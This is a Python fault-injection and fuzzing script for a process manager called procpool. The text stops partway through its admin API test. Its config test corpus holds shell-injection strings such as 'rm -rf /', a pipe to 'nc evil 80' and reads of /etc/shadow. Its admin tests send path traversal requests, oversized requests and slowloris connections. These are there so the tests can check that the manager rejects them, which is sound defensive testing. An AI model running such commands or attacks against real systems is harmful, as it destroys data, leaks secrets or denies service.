#!/usr/bin/env python3
"""make chaos: procpool under fault injection, over real processes, measured from outside.

    python3 bench/chaos.py [--short] [--only storm,sigkill,hostile,configs,admin] [--report]

Five parts, each a pass/fail list of figures:
  storm    1,000 induced crashes (SIGKILL) across 20 instances: the manager's threads, file
           descriptors (/proc/PID/fd) and heap after a full GC (jcmd GC.run, then jstat) do not
           grow; no zombie; every instance HEALTHY at the end.
  sigkill  the manager SIGKILLed in the middle of a crash storm and started again on the same
           state dir: no process of the first run is left.
  hostile  children that fork grandchildren, ignore SIGTERM, close stdout, write 100 MB of output
           fast, or leave a grandchild behind as they are stopped: none survives its instance,
           and the logs stay within their size cap.
  configs  100 malformed or hostile configurations: each exits 2 naming the key, starts nothing,
           prints no stack trace.
  admin    1,000 malformed admin API requests and slowloris connections: no 5xx, no crash, and
           the pool keeps serving throughout.
--short is the form CI runs (about a fifth of each). --report writes docs/reliability.md.
Needs `make build`. Only processes this script starts are signalled, by pid; everything it
started is found by a tag on its command line and killed at the end, also on failure.

One file of about 830 lines: one function per part, each read top to bottom against the table
it fills in docs/reliability.md; the process tools shared with the other scripts are in
scripts/proctools.py.
"""
import argparse
import collections
import functools
import json
import os
import random
import shutil
import signal
import socket
import subprocess
import sys
import threading
import time
import urllib.error
import urllib.request

sys.path.insert(0, os.path.join(os.path.dirname(os.path.dirname(os.path.abspath(__file__))), "scripts"))
from proctools import ROOT, JAR, alive, cds_opts, java_opts, stat_fields, status_field, wait_until  # noqa: E402
SAMPLE = os.path.join(ROOT, "build", "search.cgi")
FAKE = os.path.join(ROOT, "procpool-cli", "src", "test", "programs", "fake_service.py")
WORK = os.path.join(ROOT, "bench", ".work", "chaos")
JAVA_OPTS = java_opts()
TAG = "chaos-%d" % os.getpid()
ADMIN = 23999

results = []  # (part, check, measured, target, ok)


def check(part, name, measured, target, ok):
    results.append((part, name, str(measured), str(target), bool(ok)))
    print("%s %-8s %-62s %-24s target %s" % ("PASS" if ok else "FAIL", part, name, measured, target), flush=True)


# ---------------------------------------------------------------- processes, from outside

def tagged(tag=TAG):
    """Live processes whose command line carries tag (ours, and what they forked without exec)."""
    found = []
    for p in os.listdir("/proc"):
        if not p.isdigit():
            continue
        try:
            with open("/proc/%s/cmdline" % p, "rb") as f:
                if tag.encode() in f.read() and alive(int(p)):
                    found.append(int(p))
        except OSError:
            pass
    return found


def zombies_of(ppid):
    out = []
    for p in os.listdir("/proc"):
        if p.isdigit():
            s = stat_fields(int(p))
            if s is not None and s[0] == "Z" and int(s[1]) == ppid:
                out.append(int(p))
    return out


def kill_tagged():
    for _ in range(3):
        pids = tagged()
        if not pids:
            return
        for pid in pids:
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
        time.sleep(0.1)


def jcmd(pid, command):
    """Runs a jcmd command, again if the JVM's attach mechanism did not answer (it can be slow to start)."""
    for _ in range(3):
        if subprocess.run(["jcmd", str(pid), command], capture_output=True, timeout=60).returncode == 0:
            return True
    return False


def heap_after_gc_kb(pid):
    """Used heap in KB right after a full GC, read with the JDK's own tools."""
    jcmd(pid, "GC.run")
    out = subprocess.run(["jstat", "-gc", str(pid)], capture_output=True, text=True, timeout=60).stdout.split("\n")
    cols, vals = out[0].split(), out[1].split()
    used = dict(zip(cols, vals))
    return sum(float(used[c]) for c in ("S0U", "S1U", "EU", "OU"))


def footprint(pid):
    """Threads and descriptors as the least of 20 readings over 2 s: a probe connection or a pidfd
    that is open for a moment is not a leak, and a leak shows in every reading."""
    threads, fds = [], []
    for _ in range(20):
        threads.append(thread_names(pid))
        fds.append(fd_kinds(pid))
        time.sleep(0.1)
    fewest = min(threads, key=len)
    fewest_fds = min(fds, key=len)
    return {"threads": len(fewest), "thread_names": fewest, "java_threads": java_thread_pools(pid),
            "fds": len(fewest_fds), "fd_kinds": fewest_fds,
            "heap_kb": heap_after_gc_kb(pid),
            "rss_mb": int(status_field(pid, "VmRSS").split()[0]) / 1024}


def fd_kinds(pid):
    """What pid's descriptors are (socket, pipe, anon_inode:[pidfd], a file's path), sorted."""
    kinds = []
    for fd in os.listdir("/proc/%d/fd" % pid):
        try:
            target = os.readlink("/proc/%d/fd/%s" % (pid, fd))
        except OSError:
            continue  # closed meanwhile
        kinds.append(target.split(":[")[0] if target.startswith(("socket:", "pipe:")) else target)
    return sorted(kinds)


def java_thread_pools(pid):
    """How many threads of each name the JVM reports (numbers stripped, so a pool's workers share
    one name), the least of 3 readings of `jcmd Thread.print`: the kernel's names stop at 15
    characters, where every one of procpool's dispatchers reads "procpool-procpo"."""
    readings = []
    for _ in range(3):
        out = subprocess.run(["jcmd", str(pid), "Thread.print"], capture_output=True, text=True, timeout=60).stdout
        pools = collections.Counter(line[1:].split('"')[0].rstrip("0123456789-")
                                    for line in out.split("\n") if line.startswith('"'))
        if pools:
            readings.append(pools)
        time.sleep(0.1)
    return functools.reduce(lambda a, b: a & b, readings) if readings else collections.Counter()


def thread_names(pid):
    """The names of pid's threads (numbers stripped, so a pool's workers share one name), sorted."""
    names = []
    for t in os.listdir("/proc/%d/task" % pid):
        try:
            with open("/proc/%d/task/%s/comm" % (pid, t)) as f:
                names.append(f.read().strip().rstrip("0123456789-"))
        except OSError:
            pass  # ended meanwhile
    return sorted(names)


# ---------------------------------------------------------------- a procpool run

class Pool:
    def __init__(self, name, body, admin=ADMIN):
        self.dir = os.path.join(WORK, name)
        os.makedirs(self.dir, exist_ok=True)
        self.admin = admin
        self.conf = os.path.join(self.dir, "pool.conf")
        with open(self.conf, "w") as f:
            f.write("pool {\n  admin.port = %d\n  state-dir = state\n%s\n}\n" % (admin, body))
        self.proc = None

    def start(self):
        out = open(os.path.join(self.dir, "procpool.log"), "a")
        self.proc = subprocess.Popen(["java"] + JAVA_OPTS + cds_opts() + ["-jar", JAR, "run", "--config", self.conf], cwd=self.dir,
                                     stdin=subprocess.DEVNULL, stdout=out, stderr=subprocess.STDOUT,
                                     start_new_session=True)
        out.close()
        return self

    @property
    def pid(self):
        return self.proc.pid

    def status(self):
        try:
            with urllib.request.urlopen("http://127.0.0.1:%d/status" % self.admin, timeout=2) as r:
                return json.loads(r.read())
        except (OSError, ValueError):
            return None

    def instances(self, skip=()):
        s = self.status()
        if not s:
            return []
        return [i for name, svc in s["services"].items() if name not in skip for i in svc["instances"]]

    def all_healthy(self, count, skip=()):
        inst = self.instances(skip)
        return len(inst) == count and all(i["state"] in ("HEALTHY", "RUNNING") for i in inst)

    def stop(self, timeout=60):
        if self.proc and self.proc.poll() is None:
            self.proc.send_signal(signal.SIGTERM)
            try:
                return self.proc.wait(timeout)
            except subprocess.TimeoutExpired:
                self.proc.kill()
                return None
        return self.proc.returncode if self.proc else None

    def kill(self):
        if self.proc and self.proc.poll() is None:
            self.proc.kill()
            self.proc.wait()


def sample_service(name, first, count, extra=""):
    ports = ", ".join(str(p) for p in range(first, first + count))
    return """  services.%s {
    command = ["%s", "{port}", "%s"]
    ports = [%s]
    health-check { path = "/?q=health", interval = 1s, timeout = 500ms }
    restart { min-backoff = 10ms, max-backoff = 100ms, max-restarts = 1000000, reset-after = 1s }
    %s
  }
""" % (name, SAMPLE, TAG, ports, extra)


# ---------------------------------------------------------------- storm

def storm(short):
    crashes, warmup = (200, 50) if short else (1000, 100)
    pool = Pool("storm", sample_service("storm", 22000, 20)).start()
    try:
        if not wait_until(60, lambda: pool.all_healthy(20)):
            check("storm", "20 instances HEALTHY after start", "no", "yes", False)
            return
        rnd = random.Random(7)
        done = 0
        # A killed child can still be listed with its pid for a moment (its exit not yet
        # handled): never kill a pid twice, so each kill counted is one exit to report.
        killed = set()

        def induce(n):
            nonlocal done
            end = time.monotonic() + 600
            target = done + n
            while done < target and time.monotonic() < end:
                live = [i for i in pool.instances() if i["pid"] and i["pid"] not in killed
                        and i["state"] in ("HEALTHY", "RUNNING", "STARTING")]
                if not live:
                    time.sleep(0.01)
                    continue
                victim = rnd.choice(live)["pid"]
                killed.add(victim)
                try:
                    os.kill(victim, signal.SIGKILL)
                    done += 1
                except OSError:
                    pass
                time.sleep(0.01)

        induce(warmup)
        wait_until(60, lambda: pool.all_healthy(20))
        # The first jcmd starts the JVM's attach listener (a thread and a socket): the measuring
        # tool's own footprint, so it is started before the first reading.
        jcmd(pool.pid, "VM.uptime")
        # As long a pause as the one before the second reading (the wait for all HEALTHY and a full
        # GC): instances that came back from the warm-up's last crashes reconnect their probes.
        time.sleep(2)
        before = footprint(pool.pid)
        t0 = time.monotonic()
        induce(crashes - warmup)
        took = time.monotonic() - t0
        healthy = wait_until(120, lambda: pool.all_healthy(20))
        after = footprint(pool.pid)
        zombies = wait_until(5, lambda: len(zombies_of(pool.pid)) == 0) and 0 or len(zombies_of(pool.pid))
        check("storm", "crashes induced (SIGKILL), in %.0f s" % took, done, crashes, done >= crashes)
        # Each kill must reach its instance as an exit, not later as failing probes: the manager
        # logs one "exited unexpectedly" per exit it collected.
        with open(os.path.join(pool.dir, "procpool.log"), errors="replace") as f:
            seen = sum(1 for line in f if "exited unexpectedly" in line)
        check("storm", "exits the manager collected and reported, of the crashes induced", "%d of %d" % (seen, done),
              "all", seen == done)
        grown = list(after["thread_names"])
        for n in before["thread_names"]:
            if n in grown:
                grown.remove(n)
        # A dispatcher starts workers with load (a fork-join pool also retires them; a fixed
        # thread pool creates its threads on demand, up to its size), so one more worker of each
        # pool that was already there can come; a leak grows with the crashes (200, or 1,000). The
        # kernel's names stop at 15 characters, so pools are told apart by the JVM's names.
        grown_pools = after["java_threads"] - before["java_threads"]
        if grown_pools:
            grown = ["%s +%d" % (n, k) for n, k in sorted(grown_pools.items())]
        if grown_pools:
            churn = all(before["java_threads"][n] > 0 and k <= 1 for n, k in grown_pools.items())
        else:
            churn = len(grown) <= 1 and all(n in before["thread_names"] for n in grown)
        check("storm", "manager threads (least of 20 readings): before -> after",
              "%d -> %d%s" % (before["threads"], after["threads"], " (new: %s)" % ", ".join(grown) if grown else ""),
              "no growth (but a pool's worker)", after["threads"] <= before["threads"] or churn)
        new_fds = list(after["fd_kinds"])
        for k in before["fd_kinds"]:
            if k in new_fds:
                new_fds.remove(k)
        check("storm", "manager open fds (/proc/PID/fd, least of 20): before -> after",
              "%d -> %d%s" % (before["fds"], after["fds"], " (new: %s)" % ", ".join(new_fds) if new_fds else ""),
              "no growth", after["fds"] <= before["fds"])
        check("storm", "heap after full GC (jcmd, jstat): before -> after",
              "%.1f -> %.1f MB" % (before["heap_kb"] / 1024, after["heap_kb"] / 1024), "<= +10 %",
              after["heap_kb"] <= before["heap_kb"] * 1.1)
        check("storm", "RSS: before -> after", "%.0f -> %.0f MB" % (before["rss_mb"], after["rss_mb"]), "(shown)", True)
        check("storm", "zombie children of the manager", zombies, 0, zombies == 0)
        check("storm", "every instance HEALTHY at the end", "yes" if healthy else "no", "yes", healthy)
        code = pool.stop()
        check("storm", "SIGTERM afterwards: exit code, processes left", "%s, %d" % (code, len(tagged())), "0, 0",
              code == 0 and not tagged())
    finally:
        pool.kill()
        kill_tagged()


# ---------------------------------------------------------------- sigkill

def sigkill(short):
    results_before = len(results)
    for die in (False, True):
        name = "sigkill-%s" % ("pdeathsig" if die else "statefile")
        body = "  children-die-with-manager = %s\n" % ("true" if die else "false") + sample_service("storm", 22100, 20)
        first = Pool(name, body).start()
        try:
            if not wait_until(60, lambda: first.all_healthy(20)):
                check("sigkill", "20 instances HEALTHY after start", "no", "yes", False)
                continue
            # a storm in the background, and the manager SIGKILLed in the middle of it
            stop = threading.Event()

            def storm_loop():
                rnd = random.Random(3)
                while not stop.is_set():
                    live = [i["pid"] for i in first.instances() if i["pid"]]
                    if live:
                        try:
                            os.kill(rnd.choice(live), signal.SIGKILL)
                        except OSError:
                            pass
                    time.sleep(0.005)

            t = threading.Thread(target=storm_loop, daemon=True)
            t.start()
            time.sleep(1.0 if short else 2.0)
            first.kill()
            stop.set()
            t.join()
            left_at_kill = set(tagged())
            second = Pool(name, body).start()
            try:
                healthy = wait_until(60, lambda: second.all_healthy(20))
                mine = {i["pid"] for i in second.instances() if i["pid"]}
                survivors = [p for p in left_at_kill if alive(p) and p not in mine]
                how = ("the kernel (children-die-with-manager = true)" if die
                       else "the next manager (state file, run id; children-die-with-manager = false)")
                check("sigkill", "processes of the first run left, stopped by %s" % how, len(survivors), 0,
                      not survivors)
                check("sigkill", "second run: 20 instances HEALTHY", "yes" if healthy else "no", "yes", healthy)
                code = second.stop()
                check("sigkill", "second run stopped: exit code, processes left", "%s, %d" % (code, len(tagged())),
                      "0, 0", code == 0 and not tagged())
            finally:
                second.kill()
        finally:
            first.kill()
            kill_tagged()
    return len(results) - results_before


# ---------------------------------------------------------------- hostile children

def hostile(short):
    spew_mb = 30 if short else 100
    fake = "python3 %s --port {port} --tag %s" % (FAKE, TAG)
    # The services that run fake_service.py (each found by its tag, with its grandchildren).
    tagged_services = [("forker", "--fork-grandchild", 22200), ("stubborn", "--ignore-term", 22201),
                       ("mute", "--close-stdout", 22202), ("spewer", "--spew-mb %d" % spew_mb, 22203),
                       ("leaver", "--fork-on-term", 22204), ("daemon", "--daemonize", 22206)]
    body = """  defaults {
    health-check { path = "/", interval = 500ms }
    stop.timeout = 2s
    log { max-size = 1MiB, keep = 2 }
  }
  services {
%s
    quitter  { command = [sh, -c, "exit 3"], ports = [22205], health-check.type = none,
               restart { min-backoff = 10ms, max-backoff = 20ms, max-restarts = 1000000 } }
  }
""" % "\n".join('    %-8s { command = "%s %s", ports = [%d] }' % (name, fake, flags, port)
                for name, flags, port in tagged_services)
    pool = Pool("hostile", body).start()
    try:
        n = len(tagged_services)
        healthy = wait_until(60, lambda: pool.all_healthy(n, skip=("quitter",)))
        check("hostile", "%d hostile services HEALTHY" % n, "yes" if healthy else "no", "yes", healthy)
        logs = os.path.join(pool.dir, "state", "logs")

        def spewer_done():
            try:
                with open(os.path.join(logs, "spewer-22203.log"), "rb") as f:
                    f.seek(0, 2)
                    return True
            except OSError:
                return False
        # The spewer writes as fast as it can; let it finish (or 60 s).
        wait_until(60, lambda: spewer_done() and sum(os.path.getsize(os.path.join(logs, f)) for f in os.listdir(logs)
                                                   if f.startswith("spewer")) > 0 and not busy_writer(pool), 0.5)
        before = set(tagged())
        grandchildren = len(before) - n
        # One instance stopped on its own first, then the whole pool.
        req = urllib.request.Request("http://127.0.0.1:%d/services/leaver/stop" % pool.admin, method="POST")
        try:
            urllib.request.urlopen(req, timeout=10).read()
        except OSError:
            pass
        wait_until(10, lambda: (pool.status() or {}).get("services", {}).get("leaver", {}).get("state") == "STOPPED")
        leaver_left = [p for p in tagged() if b"--fork-on-term" in open("/proc/%d/cmdline" % p, "rb").read()]
        check("hostile", "a leader that forks as it is stopped: its group left behind", len(leaver_left), 0,
              not leaver_left)
        quits = ((pool.status() or {}).get("services", {}).get("quitter", {}).get("instances") or [{}])[0].get("restarts", 0)
        check("hostile", "a child that exits at once: restarts before the stop", quits, ">= 5", quits >= 5)
        t0 = time.monotonic()
        code = pool.stop(60)
        took = time.monotonic() - t0
        left = tagged()
        check("hostile", "processes left after SIGTERM (of %d, grandchildren incl.)" % len(before), len(left), 0,
              not left)
        check("hostile", "manager exit code; time to stop (stop.timeout 2s)", "%s; %.1f s" % (code, took),
              "0; <= 4 s", code == 0 and took <= 4)
        cap = 1 << 20
        sizes = {f: os.path.getsize(os.path.join(logs, f)) for f in os.listdir(logs) if f.startswith("spewer")}
        total = sum(sizes.values())
        check("hostile", "spewer wrote %d MB: its log files" % spew_mb,
              " ".join("%s=%.1fM" % (k.replace("spewer-22203", ""), v / cap) for k, v in sorted(sizes.items())),
              "each <= 2 x max-size", all(v <= 2 * cap for v in sizes.values()))
        check("hostile", "spewer: all its log files together", "%.1f MB" % (total / cap), "<= (keep+1) x 2 MB",
              total <= 3 * 2 * cap)
        check("hostile", "grandchildren seen before the stop", grandchildren, ">= 2", grandchildren >= 2)
    finally:
        pool.kill()
        kill_tagged()


def busy_writer(pool):
    """True while the spewer still writes (its log grew in the last half second)."""
    logs = os.path.join(pool.dir, "state", "logs")

    def total():
        return sum(os.path.getsize(os.path.join(logs, f)) for f in os.listdir(logs) if f.startswith("spewer"))
    a = total()
    time.sleep(0.5)
    return total() != a


# ---------------------------------------------------------------- configs

def config_corpus(marker):
    """(name, text or None for a special file, the key the message must name)."""
    canary = 'canary { command = ["sh", "-c", "touch %s; exec sleep 60"], ports = [22390] }' % marker

    def pool(services, extra=""):
        return "pool {\n  admin.port = 22399\n  state-dir = state\n%s\n  services {\n    %s\n    %s\n  }\n}\n" % (
            extra, canary, services)
    c = []
    svc = 'command = "./x {port}", ports = [22300]'
    wrong_types = [("ports", 'command = "./x", ports = "eighty"'), ("ports", 'command = "./x", ports = [true]'),
                   ("ports", 'command = "./x", ports = [{a = 1}]'), ("command", "command = 42, ports = [22300]"),
                   ("command", "command = {a = 1}, ports = [22300]"), ("min-processes", svc + ", min-processes = many"),
                   ("max-processes", svc + ", max-processes = [1]"), ("enabled", svc + ", enabled = perhaps"),
                   ("env", svc + ", env = [1, 2]"), ("working-dir", svc + ", working-dir = [1]"),
                   ("health-check", svc + ", health-check = 5"), ("interval", svc + ", health-check { path = \"/\", interval = soon }"),
                   ("timeout", svc + ", health-check { path = \"/\", timeout = -1s }"),
                   ("failure-threshold", svc + ", health-check { path = \"/\", failure-threshold = zero }"),
                   ("expect-status", svc + ", health-check { path = \"/\", expect-status = \"ok\" }"),
                   ("type", svc + ", health-check { type = udp }"), ("path", svc + ", health-check { type = http, path = \"health\" }"),
                   ("min-backoff", svc + ", restart { min-backoff = fast }"), ("max-restarts", svc + ", restart { max-restarts = -3 }"),
                   ("random-factor", svc + ", restart { random-factor = 7 }"), ("signal", svc + ", stop { signal = NINE }"),
                   ("timeout", svc + ", stop { timeout = forever }"), ("max-size", svc + ", log { max-size = lots }"),
                   ("keep", svc + ", log { keep = -1 }"), ("metric", svc + ", scaling { enabled = true, metric = vibes }"),
                   ("target", svc + ", scaling { enabled = true, target = high }"), ("max-rss", svc + ", limits { max-rss = big }"),
                   ("max-cpu", svc + ", limits { max-cpu = -2 }"), ("keep-alive", svc + ", health-check { path = \"/\", keep-alive = maybe }")]
    for i, (key, body) in enumerate(wrong_types):
        c.append(("wrong type %d (%s)" % (i, key), pool("s%d { %s }" % (i, body)), key))
    dup = [("ports", 'a { command = "./x", ports = [22300, 22300] }'),
           ("ports", 'a { command = "./x", ports = [22300] }\n    b { command = "./x", ports = [22300] }'),
           ("ports", 'a { command = "./x", ports = [22390] }'),
           ("port", 'a { command = "./x", ports = [22399] }')]
    for i, (key, body) in enumerate(dup):
        c.append(("duplicate port %d" % i, pool(body), key))
    huge = [("ports", 'a { command = "./x", ports = [99999999] }'), ("ports", 'a { command = "./x", ports = [0] }'),
            ("ports", 'a { command = "./x", ports = [-80] }'), ("min-processes", svc + ", min-processes = 1000000000000"),
            ("max-processes", svc + ", max-processes = 99"), ("min-processes", svc + ", min-processes = -1"),
            ("interval", svc + ", health-check { path = \"/\", interval = 100000000000d }"),
            ("max-restarts", svc + ", restart { max-restarts = 99999999999999999999 }"),
            ("max-size", svc + ", log { max-size = 999999999999TiB }"), ("port", ""),
            ("ports", 'a { command = "./x", ports = [%s] }' % ", ".join(str(22300 + i) for i in range(20000))),
            ("timeout", svc + ", stop { timeout = 0ms }")]
    for i, (key, body) in enumerate(huge):
        if key == "port":
            c.append(("huge admin port", pool("", "  admin.port = 123456"), "admin.port"))
        else:
            c.append(("huge number %d (%s)" % (i, key), pool(body), key))
    unknown = [("comand", 'a { comand = "./x", ports = [22300] }'), ("prots", 'a { command = "./x", prots = [22300] }'),
               ("helth-check", svc + ", helth-check = \"/\""), ("intreval", svc + ", health-check { path = \"/\", intreval = 1s }"),
               ("restrat", svc + ", restrat { min-backoff = 1s }"), ("max-proceses", svc + ", max-proceses = 2"),
               ("wat", svc + ", wat = 1")]
    for i, (key, body) in enumerate(unknown):
        c.append(("unknown key %d (%s)" % (i, key), pool(body), key))
    c.append(("unknown pool key", pool("", "  stat-dir = x"), "stat-dir"))
    c.append(("unknown admin key", pool("", "  admin { hots = x }"), "hots"))
    meta = ['./x; rm -rf /', './x && reboot', './x | nc evil 80', './x > /etc/passwd', './x `id`', './x $(id)',
            './x &', "./x || true", "./x < /etc/shadow", "./x ; ; ;"]
    for i, cmd in enumerate(meta):
        c.append(("shell metacharacters %d" % i, pool('a { command = "%s", ports = [22300] }' % cmd), "command"))
    missing = [("command", "a { ports = [22300] }"), ("ports", 'a { command = "./x" }'), ("command", 'a { command = "", ports = [22300] }'),
               ("command", 'a { command = [], ports = [22300] }'), ("ports", 'a { command = "./x", ports = [] }'),
               ("services", "")]
    for i, (key, body) in enumerate(missing):
        if key == "services":
            c.append(("no services at all", "pool {\n  admin.port = 22399\n  services = 5\n}\n", key))
        else:
            c.append(("missing or empty %d (%s)" % (i, key), pool(body), key))
    names = ["a b", "../etc", "x/y", "ü", "a.b"]
    for i, n in enumerate(names):
        c.append(("bad service name %d" % i, pool('"%s" { command = "./x", ports = [22300] }' % n), "service"))
    syntax = ["pool { services { a { command = \"./x\", ports = [22300] }\n", "pool {{{{", "pool = [1,2",
              "pool { services { a { command = \"./x\n", "}}}", "pool { admin.port = }", "pool { admin.port = 22399 } \x00\x01\x02",
              "pool { services { a = ${nope} } }", "include required(\"/no/such/file.conf\")",
              "pool { services { a { command = \"./x\", ports = [22300 22301] } } }"]
    for i, text in enumerate(syntax):
        c.append(("syntax error %d" % i, text, "text file" if "\x00" in text else "ports" if i == 9 else
                  "cannot be parsed" if i not in (7, 8) else ("nope" if i == 7 else "file.conf")))
    c.append(("seed JSON, broken", '{"pools": {"search": {"command": "./x", "ports": [22300], "min_processes": "one"}}}',
              "min_processes"))
    c.append(("seed JSON, wrong shape", '{"pools": [1, 2, 3]}', "pools"))
    c.append(("seed JSON, unknown key", '{"pools": {"s": {"command": "./x", "ports": [22300], "helth_check": "/"}}}',
              "helth_check"))
    c.append(("not UTF-8", b"pool { services { a { command = \"\xff\xfe\", ports = [22300] } } }", "UTF-8"))
    c.append(("huge string", pool('a { command = "%s", ports = [22300] }' % ("x" * 200000)), "command"))
    c.append(("admin host not loopback without token", pool("", '  admin.host = "0.0.0.0"'), "token"))
    c.append(("env not strings", pool(svc.replace("command", "env { A = [1] }, command")), "env"))
    c.append(("min above max", pool(svc + ", min-processes = 1, max-processes = 0"), "max-processes"))
    c.append(("working dir missing", pool(svc + ", working-dir = \"/no/such/dir\""), "working-dir"))
    c.append(("state dir is a file", pool("", "  state-dir = \"/etc/hostname\""), "state-dir"))
    c.append(("directory, not a file", None, "DIR"))
    c.append(("no such file", None, "MISSING"))
    c.append(("empty file", "", "pool"))
    c.append(("binary garbage", bytes(range(256)) * 8, "UTF-8"))
    c.append(("dangling symlink", None, "LINK"))
    return c


def configs(short):
    d = os.path.join(WORK, "configs")
    shutil.rmtree(d, ignore_errors=True)
    os.makedirs(d)
    marker = os.path.join(d, "STARTED")
    corpus = config_corpus(marker)
    if short:
        corpus = corpus[::4]
    exit2 = named = clean = 0
    failures = []
    for i, (name, text, key) in enumerate(corpus):
        path = os.path.join(d, "c%03d.conf" % i)
        if text is None and key == "DIR":
            os.makedirs(path)
            key = path
        elif text is None and key == "MISSING":
            key = path
        elif text is None and key == "LINK":
            os.symlink(os.path.join(d, "nowhere.conf"), path)
            key = path
        else:
            with open(path, "wb") as f:
                f.write(text if isinstance(text, bytes) else text.encode())
        p = subprocess.Popen(["java"] + JAVA_OPTS + ["-jar", JAR, "run", "--config", path], cwd=d, stdout=subprocess.PIPE,
                             stderr=subprocess.STDOUT, start_new_session=True)
        try:
            raw, _ = p.communicate(timeout=30)
        except subprocess.TimeoutExpired:
            os.killpg(p.pid, signal.SIGTERM)  # it runs: a pool was started; stop it the way a user would
            raw, _ = p.communicate(timeout=30)
        out = raw.decode("utf-8", "replace")
        ok2 = p.returncode == 2
        has_key = key in out and (path in out or os.path.basename(path) in out)
        no_trace = "Exception" not in out and "\tat " not in out
        exit2 += ok2
        named += has_key
        clean += no_trace
        if not (ok2 and has_key and no_trace):
            failures.append("%s: exit %d, key %s named: %s, trace: %s; %s" % (
                name, p.returncode, key, has_key, not no_trace, out.strip().replace("\n", " | ")[:300]))
    n = len(corpus)
    check("configs", "malformed configurations that exit 2", "%d of %d" % (exit2, n), "all", exit2 == n)
    check("configs", "... whose message names the file and the key", "%d of %d" % (named, n), "all", named == n)
    check("configs", "... without a stack trace", "%d of %d" % (clean, n), "all", clean == n)
    check("configs", "processes started by any of them", 1 if os.path.exists(marker) else 0, 0, not os.path.exists(marker))
    for f in failures:
        print("    " + f)


# ---------------------------------------------------------------- admin

def raw_request(port, data, timeout=1.5):
    """Sends bytes, returns the status code of the answer (None if the connection just closed)."""
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=timeout) as s:
            s.sendall(data)
            buf = b""
            while b"\r\n" not in buf and len(buf) < 4096:
                chunk = s.recv(4096)
                if not chunk:
                    break
                buf += chunk
            line = buf.split(b"\r\n", 1)[0].split()
            return int(line[1]) if len(line) >= 2 and line[0].startswith(b"HTTP/") and line[1].isdigit() else None
    except OSError:
        return None


def admin_corpus(rnd, count):
    def req(method, path, body=b"", headers=()):
        head = "%s %s HTTP/1.1\r\nHost: 127.0.0.1\r\n" % (method, path)
        for h in headers:
            head += h + "\r\n"
        if body:
            head += "Content-Length: %d\r\n" % len(body)
        return head.encode("latin-1") + b"Connection: close\r\n\r\n" + body
    svc = "/services/search"
    templates = [
        lambda: req("GET", "/status/" + rnd.choice(["nope", "..", "%00", "%ff%fe", "a" * 300])),
        lambda: req("GET", "/" + "x" * rnd.choice([3000, 10000, 100000])),
        lambda: req("GET", "/../../../etc/passwd"),
        lambda: req("GET", "/backends?format=" + rnd.choice(["xml", "", "%00", "yarp" * 100])),
        lambda: req("GET", svc + "/instances/" + rnd.choice(["abc", "-1", "99999999999999999999", "1e5", "22400x"]) + "/log?lines="
                    + rnd.choice(["x", "-5", "1e99", "99999999999999999999"])),
        lambda: req("POST", svc + "/scale?instances=" + rnd.choice(["abc", "-1", "99999999999999999999", "", "1.5", "%20", "0x10"])),
        lambda: req("POST", "/services/" + rnd.choice(["nosuch", "", "%2e%2e", "x" * 500, "%00"]) + "/scale?instances=1"),
        lambda: req("POST", svc + "/scale", body=os.urandom(rnd.choice([10, 1000]))),
        lambda: req("POST", "/reload", body=b"x" * rnd.choice([70000, 1 << 20, 5 << 20])),
        lambda: req("POST", "/services/" + rnd.choice(["nosuch", "../search", "search/../x"]) + "/restart"),
        lambda: req("POST", svc + "/restart?wait=" + rnd.choice(["banana", "-3s", "99999999999d"])),
        lambda: req("POST", "/services/nosuch/stop"),
        lambda: req(rnd.choice(["DELETE", "PUT", "PATCH", "OPTIONS", "TRACE"]), rnd.choice(["/status", svc + "/scale", "/metrics"])),
        lambda: req(rnd.choice(["FOO", "GETT", "get", "BREW"]), "/status"),
        lambda: req("GET", "/status", headers=["X-Big: " + "y" * rnd.choice([9000, 70000])]),
        lambda: req("GET", "/status", headers=["Content-Length: -5"]),
        lambda: req("GET", "/status", headers=["Transfer-Encoding: bogus"]),
        lambda: req("POST", svc + "/scale?instances=1", headers=["Authorization: Bearer " + "z" * 5000]),
        lambda: b"GET /status HTTP/9.9\r\nHost: x\r\n\r\n",
        lambda: b"GET /status\r\n\r\n",
        lambda: bytes(rnd.getrandbits(8) for _ in range(rnd.choice([5, 50, 500]))) + b"\r\n\r\n",
        lambda: b"\r\n\r\n\r\n",
        lambda: b"GET /status HTTP/1.1\r\nHost: x\r\nBad Header Line\r\n\r\n",
        lambda: b"POST /reload HTTP/1.1\r\nHost: x\r\nContent-Length: 100\r\n\r\nshort",
        lambda: req("GET", "/events?" + "q=" * 2000),
        lambda: req("GET", "/metrics?x=%7f%00"),
    ]
    return [rnd.choice(templates)() for _ in range(count)]


def admin(short):
    count = 200 if short else 1000
    loris = 20 if short else 100
    pool = Pool("admin", sample_service("search", 22400, 4)).start()
    try:
        if not wait_until(60, lambda: pool.all_healthy(4)):
            check("admin", "pool HEALTHY after start", "no", "yes", False)
            return
        pids = sorted(i["pid"] for i in pool.instances())
        # The pool's instances are used throughout by a client of their own.
        stop = threading.Event()
        served = {"ok": 0, "failed": 0}

        def user():
            while not stop.is_set():
                for port in range(22400, 22404):
                    try:
                        with urllib.request.urlopen("http://127.0.0.1:%d/?q=pool" % port, timeout=2) as r:
                            served["ok" if r.status == 200 else "failed"] += 1
                    except OSError:
                        served["failed"] += 1
                time.sleep(0.02)

        # Slowloris: connections that send a request head one byte at a time and never finish.
        socks = []

        def slowloris():
            for _ in range(loris):
                try:
                    s = socket.create_connection(("127.0.0.1", pool.admin), timeout=2)
                    s.sendall(b"GET /status HTTP/1.1\r\n")
                    socks.append(s)
                except OSError:
                    pass
            while not stop.is_set():
                for s in list(socks):
                    try:
                        s.sendall(b"X")
                    except OSError:
                        socks.remove(s)
                time.sleep(0.5)

        threads = [threading.Thread(target=user, daemon=True), threading.Thread(target=slowloris, daemon=True)]
        for t in threads:
            t.start()
        statuses = {}
        rnd = random.Random(11)
        t0 = time.monotonic()
        status_checks, status_ok = 0, 0
        for i, data in enumerate(admin_corpus(rnd, count)):
            code = raw_request(pool.admin, data)
            statuses[code] = statuses.get(code, 0) + 1
            if i % 50 == 0:
                status_checks += 1
                status_ok += pool.status() is not None
        took = time.monotonic() - t0
        stop.set()
        for t in threads:
            t.join(10)
        for s in socks:
            s.close()
        fivexx = sum(v for k, v in statuses.items() if k is not None and k >= 500)
        shown = ", ".join("%s: %d" % (k if k is not None else "closed", v) for k, v in
                          sorted(statuses.items(), key=lambda kv: (kv[0] is None, kv[0] or 0)))
